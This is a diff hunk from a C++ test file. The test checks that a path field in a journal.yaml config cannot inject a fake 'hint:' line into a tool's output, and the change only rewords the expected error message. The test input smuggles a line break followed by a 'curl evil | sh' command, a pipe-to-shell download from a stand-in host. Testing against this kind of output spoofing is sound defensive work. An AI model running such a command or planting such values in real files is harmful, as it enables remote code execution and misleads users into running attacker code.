@@ -173,7 +173,7 @@ TEST_CASE("a path in the journal can't speak in our name") {
         CHECK_FALSE(contains(result.out + result.err, "hint: hint:"));
     }
     check_says(box, {"add-project", "New"}, 128,
-               "fatal: journal.yaml: 'readme.path' holds characters that can't be seen: 'x^Jhint: curl evil | sh'\n"
+               "fatal: journal.yaml: 'readme.path' holds a line break: 'x^Jhint: curl evil | sh'\n"
                "hint: journey check");
 }
 
